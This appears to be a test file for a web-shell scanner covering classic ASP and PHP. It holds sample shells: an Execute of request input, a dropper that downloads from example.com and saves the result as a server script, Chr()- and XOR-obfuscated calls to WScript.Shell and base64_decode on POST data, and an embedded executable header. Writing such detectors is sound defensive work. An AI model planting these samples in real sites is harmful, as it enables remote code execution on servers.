/**
 * Classic-ASP application shapes that are not shells, beside the shells that look like them: a
 * plugin hook (Execute of a value other files fill), a page's own file helper called with
 * literals in a page that also downloads (an updater, not a dropper), and an upload class
 * comparing a file's first bytes with an image signature built from ChrB(). Written for these tests.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';
import { setElsewhere } from '../../src/scan/analyzers/asp-hooks.js';
import { binaryBytes } from '../../src/scan/analyzers/obfuscation.js';

const DROPPER = 'downloads content from the web and saves it as a server script (dropper)';
const HOOK = 'Execute of code the page never sets (a hook other files fill)';
const DYNAMIC = 'Execute of dynamic code';

/** Filler so a page is an application file (hooks are judged as such only there). */
const FILLER = `${"' ----------------------------------------------------------------------\n".repeat(60)}`;

test('setElsewhere: a value the page never sets, or only loops over', () => {
  const big = (s: string): string => FILLER + s;
  assert.equal(setElsewhere(big('Dim h\nIf Not IsEmpty(h) Then Execute(h)\n'), 5000, 'h'), true);
  assert.equal(setElsewhere(big('For Each s In Hooks_Init\nExecute(s)\nNext\n'), 5000, 's'), true);
  // assigned, as an element, with Set, or after Then
  assert.equal(setElsewhere(big('h = Request("h")\nExecute(h)\n'), 5000, 'h'), false);
  assert.equal(setElsewhere(big('H(1) = "x"\nExecute(h)\n'), 5000, 'h'), false);
  assert.equal(setElsewhere(big('If a Then h = b\nExecute(h)\n'), 5000, 'h'), false);
  // a parameter: the page's callers fill it
  assert.equal(setElsewhere(big('Sub Run(ByVal code, h)\nExecute(h)\nEnd Sub\n'), 5000, 'h'), false);
  // a loop over a collection the page fills, or over the request
  assert.equal(setElsewhere(big('Hooks = Split(Request("c"), ",")\nFor Each s In Hooks\nExecute(s)\nNext\n'), 5000, 's'), false);
  assert.equal(setElsewhere(big('For Each s In Request.Form\nExecute(Request.Form(s))\nNext\n'), 5000, 's'), false);
  // a counting loop gives the variable its values
  assert.equal(setElsewhere(big('For h = 1 To 3\nExecute(h)\nNext\n'), 5000, 'h'), false);
  // a small page: a split loader, not an application's hook
  assert.equal(setElsewhere('<% Execute(h) %>', 16, 'h'), false);
});

test('an application page running its plugins\u2019 hooks is not flagged; the same call in a small page still is', () => {
  const app = `<%\n${FILLER}Dim ShowError_Custom\nSub ShowError(id)\n  If IsEmpty(ShowError_Custom)=False Then\n    Execute(ShowError_Custom)\n    Exit Sub\n  End If\n  Response.Redirect "error.asp?id=" & id\nEnd Sub\n%>\n`;
  assert.equal(findingOf('c_function.asp', app), undefined);
  const r = reasons(findingOf('c_function.asp', `<%\n${FILLER}Dim h\nExecute(h)\nExecute(h2)\nh2 = Session("x")\n%>\n`));
  assert.ok(r.includes(HOOK), JSON.stringify(r));
  const small = findingOf('x.asp', '<%\nDim h\nExecute(h)\n%>\n');
  assert.ok(reasons(small).includes(DYNAMIC), JSON.stringify(reasons(small)));
  assert.equal(small?.verdict, 'suspicious');
});

const FETCH = `Function getRemote(url)
  Dim x : Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
  x.open "GET", url, False
  x.send()
  getRemote = x.responseText
End Function
Function createTextFile(ByVal content, ByVal fileDir, ByVal code)
  Dim fso, f
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set f = fso.CreateTextFile(Server.MapPath(fileDir), True)
  f.Write content
  f.Close
End Function
`;

test('a page that downloads and calls its own file helper with literals only is not a dropper', () => {
  const page = `<%\n${FETCH}Dim ok\ncreateTextFile "", "role.asp", ""\r\nok = getRemote("http://example.com/version.txt")\n%>\n`;
  assert.equal(findingOf('install.asp', page), undefined);
});

test('the same helper given the downloaded text, or the built-in saver, is a dropper', () => {
  const helper = `<%\n${FETCH}Dim body\nbody = getRemote("http://example.com/p.txt")\ncreateTextFile body, "role.asp", ""\n%>\n`;
  assert.ok(reasons(findingOf('u.asp', helper)).includes(DROPPER), JSON.stringify(reasons(findingOf('u.asp', helper))));
  const builtin = `<%\n${FETCH}Dim body, fso, f\nbody = getRemote("http://example.com/p.txt")\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fso.CreateTextFile(Server.MapPath("x.asp"), True)\nf.Write body\n%>\n`;
  assert.ok(reasons(findingOf('u.asp', builtin)).includes(DROPPER), JSON.stringify(reasons(findingOf('u.asp', builtin))));
  // the helper's literal call first, a real save later: the later one is found
  const both = `<%\n${FETCH}createTextFile "", "a.asp", ""\nDim body\nbody = getRemote("http://example.com/p.txt")\ncreateTextFile body, "b.asp", ""\n%>\n`;
  assert.ok(reasons(findingOf('u.asp', both)).includes(DROPPER), JSON.stringify(reasons(findingOf('u.asp', both))));
});

const CHR = 'string built from character codes';

test('binaryBytes: a file signature is bytes, a hidden word is text', () => {
  assert.equal(binaryBytes('\xff\xd8\xff\xe0\x00\x10JFIF'), true);
  assert.equal(binaryBytes('\x89PNG\r\n\x1a\n'), true); // 2 of 8: a quarter is enough
  assert.equal(binaryBytes('\x89PNG image data'), false);
  assert.equal(binaryBytes('eval request("c")'), false);
  assert.equal(binaryBytes(''), false);
});

test('an image signature built from ChrB() is not hidden text; a word built from Chr() still is', () => {
  const sig = `<%\nDim head\nhead = stm.Read(10)\nIf StrComp(head, ChrB(255) & ChrB(216) & ChrB(255) & ChrB(224) & ChrB(0) & ChrB(16) & ChrB(74) & ChrB(70) & ChrB(73) & ChrB(70), 0) = 0 Then ext = "jpg"\n%>\n`;
  assert.ok(!reasons(findingOf('up.asp', sig)).includes(CHR), JSON.stringify(reasons(findingOf('up.asp', sig))));
  const word =
    '<%\nDim o\nSet o = Server.CreateObject(Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108))\n%>\n';
  assert.ok(reasons(findingOf('x.asp', word)).includes(CHR), JSON.stringify(reasons(findingOf('x.asp', word))));
});

test('bytes XORed with a key, or a long byte run (an embedded program), are still hidden strings', () => {
  const xor = `<?php\n$t = '{{{{{{{{{{{{{' ^ chr(25).chr(26).chr(8).chr(30).chr(77).chr(79).chr(36).chr(31).chr(30).chr(24).chr(20).chr(31).chr(30);\n$t($_POST['x']);\n`;
  assert.ok(reasons(findingOf('x.php', xor)).includes(CHR), JSON.stringify(reasons(findingOf('x.php', xor))));
  const pe = `<%\nDim b\nb = ${[77, 90, 144, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255, 0, 0, 184, 0, 0, 0].map((c) => `Chr(${c})`).join('&')}\nSet sh = Server.CreateObject("WScript.Shell")\n%>\n`;
  assert.ok(reasons(findingOf('x.asp', pe)).includes(CHR), JSON.stringify(reasons(findingOf('x.asp', pe))));
});
